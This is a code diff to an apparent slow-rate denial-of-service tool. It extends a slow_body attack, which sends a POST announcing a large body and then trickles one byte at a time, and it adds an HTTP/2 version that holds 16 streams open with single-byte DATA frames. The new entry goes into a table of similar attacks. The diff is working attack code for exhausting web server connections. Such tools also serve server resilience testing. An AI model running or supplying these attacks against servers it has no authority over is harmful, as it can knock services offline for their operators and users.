@@ -225,12 +225,28 @@ def incomplete_frame(attack):
 
 
 def slow_body(attack):
+    """A byte from time to time."""
+
     def start():
         sock = attack.connect()
         sock.sendall(f"POST /x HTTP/1.1\r\nHost: {attack.host}\r\nContent-Length: 100000\r\n\r\nhello".encode())
         return sock
 
-    attack.hold(40, start)
+    attack.hold(40, start, lambda sock: sock.send(b"x"))
+
+
+def slow_body_http2(attack):
+    """The same on each of 16 streams."""
+    streams = range(1, 33, 2)
+    fields = {":method": "POST", ":scheme": "http", ":authority": attack.host, ":path": "/x"}
+    head = b"".join(literal(name, value) for name, value in fields.items())
+
+    def start():
+        sock = attack.begin()
+        sock.sendall(b"".join(frame(HEADERS, END_HEADERS, stream, head) for stream in streams))
+        return sock
+
+    attack.hold(10, start, lambda sock: sock.send(b"".join(frame(DATA, 0, stream, b"x") for stream in streams)))
 
 
 def stalled_streams(attack):
@@ -429,6 +445,7 @@ ATTACKS = {
     "slow_head_http2": slow_head_http2,
     "incomplete_frame": incomplete_frame,
     "slow_body": slow_body,
+    "slow_body_http2": slow_body_http2,
     "stalled_stream": stalled_streams,
     "slow_read": slow_read,
     "slow_read_http1": slow_read_http1,
